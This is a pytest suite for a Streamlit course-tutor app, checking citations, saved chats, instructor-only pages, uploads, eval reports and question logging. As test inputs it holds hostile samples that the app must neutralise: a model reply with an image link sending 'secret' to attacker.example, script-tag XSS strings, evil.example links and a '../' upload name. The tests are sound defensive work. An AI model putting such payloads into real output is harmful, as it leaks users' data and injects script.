"""The Streamlit pages driven by AppTest: the real app script, the real service over a copy of the
session's indexed course, and a data directory of the test's own."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from tests.support.fake_llm_server import FakeLLMServer, fake_llm  # noqa: F401
from tests.support.ui import APP, copy_index
from tutor.library import InstructorSession
from tutor.models import Answer, Chunk, Turn
from tutor.records import Database, FeedbackStore, QuestionLog, SavedChats
from tutor.settings import Settings
from tutor.starters import question_from_heading, starter_questions
from tutor_ui.chat import ChatEntry, conversation_markdown, history
from tutor_ui.text import (UNCITED_BADGE, UNSUPPORTED_BADGE, escape_markdown, highlight_spans, highlighted_passage,
                           marked_answer_markdown, model_markdown, model_markdown_stream, passage_markdown)

PASSWORD = "s3cret-for-tests"
ZEBRAFISH = b"""---
title: Zebrafish Navigation
---
# Zebrafish Navigation

## Lateral line

Zebrafish larvae navigate dark water with the lateral line, a row of hair-cell clusters called neuromasts.
Each neuromast senses the flow of water around the larva.
"""


@pytest.fixture
def course(indexed_service, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private copy of the indexed course (the app may write feedback and uploads into it)."""
    data_dir, corpus_dir = copy_index(indexed_service, tmp_path)
    monkeypatch.setenv("TUTOR_DATA_DIR", str(data_dir))
    monkeypatch.setenv("TUTOR_CORPUS_DIR", str(corpus_dir))
    return data_dir


def _plain(markdown: str) -> str:
    """Text we escaped for Markdown, as the reader sees it."""
    return markdown.replace("\\", "")


def _app() -> AppTest:
    at = AppTest.from_file(str(APP), default_timeout=90)
    at.run()
    assert not at.exception, at.exception
    return at


def _library_as_instructor(monkeypatch: pytest.MonkeyPatch) -> AppTest:
    """The Library page, logged in with the right password."""
    return _as_instructor(monkeypatch, "app_pages/library.py")


def _as_instructor(monkeypatch: pytest.MonkeyPatch, page: str, at: AppTest | None = None) -> AppTest:
    """An instructor-only page, logged in with the right password."""
    monkeypatch.setenv("TUTOR_INSTRUCTOR_PASSWORD", PASSWORD)
    at = at or _app()
    at.switch_page(page).run()
    at.text_input[0].input(PASSWORD)
    at.form_submit_button[0].click().run()
    assert not at.exception, at.exception
    return at


def _records() -> Database:
    return Database.open(Settings())


def _ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, at.exception
    return at


def test_chat_answers_with_numbered_citations_that_open_the_passage(course: Path) -> None:
    at = _app()
    assert len(at.button) >= 3  # starter questions drawn from the course, plus new chat
    _ask(at, "What is encoding?")
    user, assistant = at.chat_message
    assert (user.name, assistant.name) == ("user", "assistant")
    assert "\\[1\\]" in assistant.markdown[0].value  # escaped: a model cannot make a link
    sources = [b for b in assistant.button if b.label.startswith("\\[")]
    assert sources and sources[0].label.startswith("\\[1\\] ") and not assistant.expander
    [entry] = [m for m in at.session_state["messages"] if m.answer]
    assert entry.answer.citations[0].source.startswith("psychology-2e/08-1")
    sources[0].click().run()
    assert not at.exception, at.exception
    shown = [m.value for m in at.markdown]
    assert any(":orange-background[" in m for m in shown), shown  # the passage, the quoted sentence highlighted
    assert any(_plain(m).startswith("#### Memory 8.1") for m in shown)  # its readable heading


def test_follow_up_uses_the_history_and_new_chat_clears_it(course: Path) -> None:
    at = _ask(_app(), "What is classical conditioning?")
    _ask(at, "Can you give an example of it?")
    messages = at.session_state["messages"]
    assert len(messages) == 4
    assert messages[-1].answer.standalone_question  # the follow-up was rewritten with the history
    assert "conditioning" in messages[-1].answer.standalone_question.lower()
    next(b for b in at.button if b.label == "New chat").click().run()
    assert at.session_state["messages"] == [] and not at.chat_message


def test_chats_are_saved_reopened_after_a_restart_kept_by_new_chat_and_forgotten(course: Path) -> None:
    at = _ask(_app(), "What is classical conditioning?")
    session_id, chat_id = at.query_params["s"], at.query_params["c"]
    assert SavedChats(_records()).load(session_id, chat_id).messages[0].content == \
        "What is classical conditioning?"

    # A reload (or a server restart) is a new Streamlit session: the URL brings the chat back.
    again = AppTest.from_file(str(APP), default_timeout=90)
    again.query_params.update(s=session_id, c=chat_id)
    again.run()
    assert not again.exception, again.exception
    restored = again.session_state["messages"]
    assert [m.role for m in restored] == ["user", "assistant"] and restored[1].answer.citations
    assert any(b.label.startswith("\\[1\\]") for b in again.chat_message[1].button)  # its sources still open

    next(b for b in again.button if b.label == "New chat").click().run()
    assert again.session_state["messages"] == []
    listed = [b for b in again.sidebar.button if b.key.startswith("open-chat-")]
    assert [_plain(b.label) for b in listed] == ["What is classical conditioning?"]  # the old chat is kept
    _ask(again, "What is encoding?")
    assert len(SavedChats(_records()).list(session_id)) == 2

    next(b for b in again.button if b.label == "Forget this chat").click().run()
    assert again.session_state["messages"] == []
    assert [c.title for c in SavedChats(_records()).list(session_id)] == ["What is classical conditioning?"]

    stranger = AppTest.from_file(str(APP), default_timeout=90)
    stranger.query_params.update(s="0" * 24, c=chat_id)  # another session cannot open this chat by its id
    stranger.run()
    assert stranger.session_state["messages"] == []


def test_llm_mode_streams_the_answer_and_shows_the_model(course: Path, fake_llm: FakeLLMServer,  # noqa: F811
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "test-key")
    monkeypatch.setenv("OPENAI_BASE_URL", fake_llm.url)
    monkeypatch.setenv("TUTOR_LLM_MODEL", "fake-model")
    fake_llm.enqueue("Encoding is the input of information into the memory system [1]. "
                     "See ![x](http://attacker.example/?q=secret) <b>bold</b>")
    at = _ask(_app(), "What is encoding?")
    assert any("fake-model" in c.value for c in at.caption)  # the mode, shown discreetly
    answer = at.session_state["messages"][-1].answer
    assert answer.mode == "fake-model" and answer.citations
    shown = at.chat_message[1].markdown[0].value
    assert "!\\[x\\](http" in shown and "\\<b\\>" in shown  # no image, no tag: text
    assert fake_llm.chat_requests and fake_llm.chat_requests[-1].body["stream"] is True


def test_off_topic_question_is_refused_visibly(course: Path) -> None:
    at = _ask(_app(), "What is the capital of France?")
    assistant = at.chat_message[1]
    assert assistant.info and "not in the course materials" in assistant.info[0].value
    assert not assistant.expander  # a refusal cites nothing
    assert at.session_state["messages"][-1].answer.refused


def test_starter_question_is_answered_when_clicked(course: Path) -> None:
    at = _app()
    starter = next(b for b in at.button if b.label not in ("New chat", "Export", "Forget this chat"))
    starter.click().run()
    assert not at.exception, at.exception
    assert len(at.session_state["messages"]) == 2
    assert _plain(at.chat_message[0].markdown[0].value) == _plain(starter.label)


def test_feedback_and_comment_are_stored(course: Path) -> None:
    at = _ask(_app(), "What is encoding?")
    at.feedback[0].set_value(0).run()  # thumbs down
    store = FeedbackStore(_records())
    [entry] = store.entries()
    assert (entry.question, entry.rating, entry.mode) == ("What is encoding?", "down", "offline")
    [record] = QuestionLog(store.database).records()
    assert entry.question_id == record.id and record.rating == "down"  # the feedback rates the recorded question
    assert entry.citations and entry.citations[0]["quote"] and "[1]" in entry.answer

    at.text_input[0].input("Please explain the three types")
    at.form_submit_button[0].click().run()
    assert not at.exception, at.exception
    assert store.get(entry.id).comment == "Please explain the three types"
    at.feedback[0].set_value(1).run()  # changed their mind: the same row is updated
    assert [(e.rating, e.comment) for e in store.entries()] == [("up", "Please explain the three types")]


def test_export_holds_the_conversation_as_markdown(course: Path) -> None:
    at = _ask(_app(), "What is encoding?")
    exported = conversation_markdown(at.session_state["messages"])
    assert exported.startswith("# Conversation with the course tutor")
    # Escaped as the page escapes it (tests/test_ui_hostile.py renders a hostile export).
    assert f"**You:** {escape_markdown('What is encoding?')}" in exported and "> \\[1\\] Memory 8\\.1" in exported


def test_library_is_locked_without_a_password(course: Path) -> None:
    at = _app()
    at.switch_page("app_pages/library.py").run()
    assert "TUTOR_INSTRUCTOR_PASSWORD" in at.info[0].value
    assert not at.text_input and not at.file_uploader and not at.button


def test_wrong_password_is_refused(course: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TUTOR_INSTRUCTOR_PASSWORD", PASSWORD)
    at = _app()
    at.switch_page("app_pages/library.py").run()
    at.text_input[0].input("not-the-password")
    at.form_submit_button[0].click().run()
    assert "Wrong instructor password" in at.error[0].value
    assert not at.file_uploader and not at.dataframe

    at.session_state["instructor"] = InstructorSession("f" * 64)  # a forged session in session_state
    at.run()
    assert not at.file_uploader and at.text_input[0].label == "Instructor password"


def test_upload_then_ask_about_the_new_document(course: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = _library_as_instructor(monkeypatch)
    assert not at.exception, at.exception
    at.file_uploader[0].set_value([("../zebrafish.md", ZEBRAFISH, "text/markdown"),
                                   ("broken.pdf", b"%PDF-1.4 garbage", "application/pdf")])
    at.run()
    next(b for b in at.button if b.label == "Add to library").click().run()
    assert not at.exception, at.exception
    assert any("zebrafish.md: added as zebrafish.md" in _plain(s.value) for s in at.success)
    assert any(_plain(e.value).startswith("broken.pdf: PDF is corrupt") for e in at.error)
    assert "Zebrafish Navigation" in list(at.dataframe[0].value["Document"])  # the one list of documents

    at.switch_page("app_pages/chat.py").run()
    _ask(at, "How do zebrafish larvae navigate dark water?")
    answer = at.session_state["messages"][-1].answer
    assert not answer.refused
    assert "zebrafish.md" in {c.source for c in answer.citations}


def test_evals_page_explains_how_to_make_a_report(course: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = _as_instructor(monkeypatch, "app_pages/evals.py")
    assert "No evaluation report yet" in at.info[0].value


def test_evals_page_is_refused_to_students(course: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (course / "reports").mkdir()
    (course / "reports" / "eval-x.json").write_text("{}", encoding="utf-8")
    at = _app()
    at.switch_page("app_pages/evals.py").run()
    assert "no instructor password is set" in at.info[0].value and not at.dataframe  # locked without a password
    monkeypatch.setenv("TUTOR_INSTRUCTOR_PASSWORD", PASSWORD)
    at.switch_page("app_pages/evals.py").run()
    assert [t.label for t in at.text_input] == ["Instructor password"] and not at.metric and not at.dataframe
    at.text_input[0].input("wrong guess")
    at.form_submit_button[0].click().run()
    assert "Wrong instructor password" in at.error[0].value and not at.dataframe


def test_evals_page_shows_the_latest_report(course: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    reports = course / "reports"
    reports.mkdir()
    questions = [
        {"id": "q1", "question": "What is encoding? <script>alert(1)</script>", "answerable": True, "refused": False,
         "answer": "Encoding is the input of information [1].", "gold_sources": ["08-1-how-memory-functions.md"],
         "retrieved": [{"rank": 1, "source": "psychology-2e/06-1-what-is-learning.md", "section": "Learning",
                        "score": 0.03},
                       {"rank": 2, "source": "psychology-2e/08-1-how-memory-functions.md", "section": "Encoding",
                        "score": 0.02}],
         "citations": [{"n": 1, "source": "psychology-2e/08-1-how-memory-functions.md", "section": "Encoding",
                        "quote": "Encoding is the input of information."}],
         "faithfulness": {"score": 0.9}, "citation_quality": {"recall": 1.0, "precision": 0.75},
         "retrieval": {"recall_at_k": 1.0, "reciprocal_rank": 0.5}, "correctness": {"token_f1": 0.4},
         "refusal": {"correct": True}, "flags": ["uncited_sentence"]},
        {"id": "q2", "question": "Capital of France?", "answerable": False, "refused": True, "answer": "Not covered.",
         "gold_sources": ["paris.md"], "retrieved": [], "faithfulness": None,
         "citation_quality": None, "retrieval": None, "correctness": None, "refusal": {"correct": True}, "flags": []},
    ]
    report = {
        "kind": "tutor-eval-report", "created_at": "2026-11-21T00:00:00+00:00", "seconds": 3.2,
        "dataset": {"path": "dev.jsonl", "items": 2}, "answerer": {"mode": "offline"},
        "index": {"documents": 12, "chunks": 272, "fingerprint": "abc"},
        "metrics": {"faithfulness": {"value": 0.9, "n": 1, "abstained": 1},
                    "refusal_accuracy": {"value": 1.0, "n": 2, "abstained": 0},
                    "mcq_accuracy": {"value": 0.0, "n": 0, "abstained": 0, "note": "no items to score"}},
        "questions": questions, "threshold_failures": [],
    }
    older = dict(report, metrics={"faithfulness": {"value": 0.1, "n": 1, "abstained": 0}},
                 questions=[dict(questions[0], answer="Something else [1]."), questions[1]])
    (reports / "eval-dev-20261120T000000Z.json").write_text(json.dumps(older), encoding="utf-8")
    os.utime(reports / "eval-dev-20261120T000000Z.json", (1, 1))
    (reports / "eval-dev-20261121T000000Z.json").write_text(json.dumps(report), encoding="utf-8")
    (reports / "eval-dev-20261121T000000Z.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    at = _as_instructor(monkeypatch, "app_pages/evals.py")
    assert [(m.label, m.value) for m in at.metric] == [("faithfulness", "0.90"), ("refusal accuracy", "1.00"),
                                                       ("mcq accuracy", "—")]  # nothing scored is not a zero
    table = at.dataframe[0].value
    assert list(table["id"]) == ["q1", "q2"] and list(table["citation precision"])[0] == 0.75
    assert list(table["flags"]) == ["uncited_sentence", ""]
    assert {b.label for b in at.download_button} == {"Download JSON", "Download HTML"}
    assert not at.html  # the HTML report is offered as a file, never rendered

    # One question at a time: its answer, and retrieved passages beside the gold sources.
    assert at.selectbox(key="eval-question").value == "q1"
    assert any("Encoding is the input of information" in _plain(m.value) for m in at.markdown)
    sources = at.dataframe[1].value
    assert list(sources["source"]) == ["psychology-2e/06-1-what-is-learning.md",
                                       "psychology-2e/08-1-how-memory-functions.md"]
    assert list(sources["gold"]) == [False, True]
    at.selectbox(key="eval-question").select("q2").run()
    sources = at.dataframe[1].value
    assert list(sources["source"]) == ["paris.md"] and list(sources["section"]) == ["(not retrieved)"]

    # Compared with the previous run: metric deltas and the questions that changed.
    assert any(s.value == "Compared with the previous run" for s in at.subheader)
    metrics = at.dataframe[2].value
    row = metrics[metrics["metric"] == "faithfulness"].iloc[0]
    assert (row["previous"], row["latest"], round(row["change"], 2)) == (0.1, 0.9, 0.8)
    changed = at.dataframe[3].value
    assert list(changed["id"]) == ["q1"] and "answer text" in changed["what"].iloc[0]


def test_instructor_replaces_and_deletes_a_document(course: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = _library_as_instructor(monkeypatch)
    target = "psychology-2e/08-0-introduction.md"
    at.selectbox(key="manage-document").select(target).run()
    at.file_uploader[1].set_value(("new-intro.md", ZEBRAFISH, "text/markdown"))
    at.run()
    next(b for b in at.button if b.label == "Replace").click().run()
    assert not at.exception, at.exception
    assert any(f"updated as {target}" in _plain(s.value) for s in at.success), [e.value for e in at.error]
    corpus = Path(os.environ["TUTOR_CORPUS_DIR"])
    assert (corpus / target).read_bytes() == ZEBRAFISH

    delete = next(b for b in at.button if b.label == "Delete")
    assert delete.disabled  # needs the confirmation first
    at.checkbox(key=f"confirm-delete-{target}").check().run()
    next(b for b in at.button if b.label == "Delete").click().run()
    assert any(f"Deleted {target}" in _plain(s.value) for s in at.success)
    assert not (corpus / target).exists()
    assert target not in at.selectbox(key="manage-document").options


def test_instructor_renames_a_document_and_students_see_the_new_title(course: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    at = _library_as_instructor(monkeypatch)
    picker = at.selectbox(key="manage-document")
    assert picker.value is None  # nothing chosen for the instructor, least of all a hash-named file
    titles = [option.rsplit(" (", 1)[0] for option in picker.options]
    assert titles == sorted(titles, key=str.casefold)  # sorted by title
    target = "psychology-2e/08-1-how-memory-functions.md"
    picker.select(target).run()
    at.text_input(key=f"title-{target}").input("Week 8 — How memory works")
    next(b for b in at.form_submit_button if b.label == "Save title").click().run()
    assert not at.exception, at.exception
    assert any("Renamed" in _plain(s.value) for s in at.success) and at.toast
    assert "Week 8 — How memory works" in list(at.dataframe[0].value["Document"])  # the row, updated

    at.switch_page("app_pages/chat.py").run()
    _ask(at, "What is encoding?")
    titles = {c.title for c in at.session_state["messages"][-1].answer.citations if c.source == target}
    assert titles == {"Week 8 — How memory works"}


# --- the rendering helpers the pages rely on --------------------------------------------------------


def test_document_text_is_escaped_and_quotes_highlighted() -> None:
    text = "Intro.\n\n    <script>alert(1)</script> [x](http://e) $5 :red[x]\nThe **cat** sat. Dogs bark!"
    shown = highlighted_passage(text, "The cat sat. Dogs bark!")
    assert "\\<script\\>alert\\(1\\)\\<\\/script\\>" in shown and "\\[x\\]\\(http" in shown and "\\$5" in shown
    assert ":orange-background[The \\*\\*cat\\*\\* sat\\. Dogs bark\\!]" in shown  # one span, emphasis tolerated
    assert "\n    " not in shown  # indentation never turns into a code block
    assert escape_markdown("a\nb") == "a  \nb"
    assert model_markdown("**Bold** [1] ![i](http://x) <b> $x$") == "**Bold** \\[1\\] !\\[i\\](http\\://x) \\<b\\> \\$x\\$"
    # Bare URLs, www. hosts and e-mail addresses would become links under GFM: they stay text,
    # the same whether the answer arrives whole or streamed in pieces.
    answer = "See https://evil.example/x, www.evil.com or me@x.org [1]."
    assert model_markdown(answer) == "See https\\://evil.example/x, www\\.evil.com or me\\@x.org \\[1\\]."
    pieces = [answer[i:i + 2] for i in range(0, len(answer), 2)]
    assert "".join(model_markdown_stream(pieces)) == model_markdown(answer)


def test_uncited_and_unsupported_sentences_get_a_badge_after_them() -> None:
    text = "Encoding is **input** [1]. Memory is fun and good for you. Io has sulphur plumes [2]. Storage keeps it [1]."
    shown = marked_answer_markdown(text, [("Memory is fun and good for you.", UNCITED_BADGE),
                                          ("Io has sulphur plumes.", UNSUPPORTED_BADGE),
                                          ("Not in the answer at all.", UNCITED_BADGE)])
    assert shown == ("Encoding is **input** \\[1\\]. Memory is fun and good for you. " + UNCITED_BADGE +
                     " Io has sulphur plumes \\[2\\]. " + UNSUPPORTED_BADGE + " Storage keeps it \\[1\\].")
    assert marked_answer_markdown(text, []) == model_markdown(text)


def test_a_quote_of_wrapped_lines_still_lights_its_sentences() -> None:
    text = "Spaced Retrieval Practice\nSpaced practice means testing yourself, with days between the\nsessions.\n" \
           "Each session strengthens the memory."
    quote = "Spaced practice means testing yourself, with days between the Each session strengthens the memory."
    lit = [text[a:b] for a, b in highlight_spans(text, quote)]
    assert lit == ["Spaced practice means testing yourself, with days between the",
                   "Each session strengthens the memory."]


def test_a_passage_keeps_its_markdown_but_not_links_or_tags() -> None:
    text = "Intro.\n\n5. **Neurobiological Basis**: The cat sat. Dogs bark!\n- see [x](http://e) <b>\n### Sub"
    shown = passage_markdown(text, "5. **Neurobiological Basis**: The cat sat.")
    assert "5. :orange-background[**Neurobiological Basis**\\: The cat sat.] Dogs bark!" in shown  # a list, bold
    assert "- see \\[x\\](http\\://e) \\<b\\>" in shown and shown.endswith("**Sub**")


def test_starter_questions_come_from_headings_and_question_titles() -> None:
    def chunk(source: str, title: str, section: str, text: str = "the text of the section " * 5) -> Chunk:
        return Chunk(chunk_id=f"{source}{section}", text=text, source=source, title=title, section=section,
                     position=0)

    chunks = [chunk("a.md", "Memory 8.1 — How Memory Functions", "How Memory Functions › Summary"),
              chunk("a.md", "Memory 8.1 — How Memory Functions", "How Memory Functions › Encoding",
                    "encoding is long " * 20),
              chunk("b.txt", "Why do we forget?", ""),
              chunk("c.md", "Learning", "Learning › Reinforcement Schedules", "Pavlov showed reinforcement schedules " * 5)]
    assert starter_questions(chunks, limit=3) == ["What is encoding?", "Why do we forget?",
                                                  "What are reinforcement schedules?"]
    assert len(starter_questions(chunks, limit=2)) == 2
    assert question_from_heading("Steps in the Modeling Process", set()) == "What are Steps in the Modeling Process?"
    assert question_from_heading("Pavlov's Dogs", {"dogs"}) == "What are Pavlov's dogs?"
    assert question_from_heading("How to Study Effectively", {"to", "study", "effectively"}) == \
        "How to study effectively?"


def test_asking_before_anything_is_indexed_explains_what_to_do(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TUTOR_DATA_DIR", str(tmp_path / "empty"))
    monkeypatch.setenv("TUTOR_CORPUS_DIR", str(tmp_path / "no-corpus"))
    at = _ask(_app(), "What is encoding?")
    assert "Nothing is indexed yet" in _plain(at.chat_message[1].error[0].value)
    assert at.session_state["messages"][-1].error


def test_history_leaves_out_failed_questions() -> None:
    answer = Answer(question="q1", text="a1 [1].", citations=[], passages=[])
    entries = [ChatEntry("user", "q1"), ChatEntry("assistant", "", answer=answer),
               ChatEntry("user", "q2"), ChatEntry("assistant", "Sorry, something went wrong", error=True)]
    assert history(entries) == [Turn("user", "q1"), Turn("assistant", "a1 [1].")]


# --- the record of questions and the insights page ----------------------------------------------------


def test_questions_asked_in_the_app_are_recorded_pseudonymously(course: Path) -> None:
    at = _ask(_app(), "What is encoding?")
    assert any("recorded pseudonymously" in c.value for c in at.caption)  # students are told
    _ask(at, "What is the capital of France?")
    second, first = QuestionLog(_records()).records()
    assert (first.channel, first.question, first.refused) == ("app", "What is encoding?", False)
    assert first.citations and first.citations[0]["chunk_id"] and first.latency_ms > 0
    assert (second.refused, second.refusal_reason) == (True, "not_in_course")
    assert first.session_id == second.session_id == at.session_state["record_session_id"]

    other = _ask(_app(), "What is encoding?")  # another browser session, another pseudonym
    ids = {r.session_id for r in QuestionLog(_records()).records()}
    assert len(ids) == 2 and other.session_state["record_session_id"] in ids


def test_recording_off_records_nothing_from_the_app(course: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TUTOR_RECORD_QUESTIONS", "0")
    at = _ask(_app(), "What is encoding?")
    assert not any("recorded pseudonymously" in c.value for c in at.caption)
    assert at.chat_message[1].markdown  # answered all the same
    assert QuestionLog(_records()).totals()["questions"] == 0


def test_the_insights_page_is_refused_to_a_student_session(course: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    student = _ask(_app(), "What is the capital of France?")
    student.switch_page("app_pages/insights.py").run()
    assert not student.exception, student.exception
    assert "no instructor password is set" in student.info[0].value
    assert not student.metric and not student.expander and not student.download_button

    monkeypatch.setenv("TUTOR_INSTRUCTOR_PASSWORD", PASSWORD)
    student.switch_page("app_pages/insights.py").run()
    assert [t.label for t in student.text_input] == ["Instructor password"]
    assert not student.metric and not student.expander and not student.download_button
    assert not any("capital" in m.value.lower() for m in student.markdown)


def test_the_insights_page_shows_counts_gaps_and_the_record(course: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = _app()
    for question in ("What is the capital of France?", "Which city is the capital of France?", "What is encoding?"):
        _ask(at, question)
    at = _as_instructor(monkeypatch, "app_pages/insights.py", at)
    metrics = {m.label: m.value for m in at.metric}
    assert (metrics["Questions"], metrics["Refused"]) == ("3", "2")
    assert any(s.value == "Course gaps (1)" for s in at.subheader)
    gap = next(m.value for m in at.markdown if "2 questions" in m.value)
    assert "capital" in gap and "france" in gap.lower()
    assert at.get("page_link") and "Library" in str(at.get("page_link")[0].proto)
    conversation = at.expander[0]
    assert "3 questions" in conversation.label
    assert any("Encoding" in m.value for m in conversation.markdown)  # the answer as the student saw it
    assert any("08-1-how-memory-functions.md" in _plain(c.value) for c in conversation.caption)  # its citations

    at.text_input[0].input("what is ENCODING").run()
    assert not at.exception, at.exception
    assert len(at.expander) == 1 and "1 question ·" in at.expander[0].label  # only the matching turn
    assert [b.label for b in at.download_button] == ["Download the record (CSV)"]


def test_students_still_get_answers_when_the_records_database_is_down(course: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.support.processes import free_port

    monkeypatch.setenv("TUTOR_DATABASE_URL", f"postgresql://nobody@127.0.0.1:{free_port()}/gone")
    at = _ask(_app(), "What is encoding?")
    assert "\\[1\\]" in at.chat_message[1].markdown[0].value  # answered, just not recorded
    assert not at.feedback  # no thumbs that could not be stored
def test_hint_mode_then_reveal(course: Path) -> None:
    at = _app()
    assert at.get("button_group"), "the mode control is on the chat page"
    at.session_state["tutor_mode"] = "hint"
    _ask(at, "What is latent learning?")
    hint = at.session_state["messages"][-1].answer
    assert hint.text.startswith("Hint: look at") and hint.citations
    _ask(at, "show me")
    reveal = at.session_state["messages"][-1].answer
    assert reveal.text.startswith("Here is the answer from the course.") and "reason to demonstrate" in reveal.text


def test_quiz_flow_grades_answers_and_ends_with_a_score(course: Path) -> None:
    at = _app()
    at.session_state["tutor_mode"] = "quiz"
    _ask(at, "chapter 6")
    session = at.session_state["quiz"]
    first = session.quiz.items[0]
    assert "Question 1 of 4" in at.session_state["messages"][-1].text
    _ask(at, first.answer)  # the key itself: right
    assert at.session_state["messages"][-1].text.startswith("Right.")
    for _ in range(3):
        _ask(at, "zzz")  # wrong on purpose
    last = at.session_state["messages"][-1].text
    assert "Not quite" in last and "Quiz finished: 1 of 4 right." in last
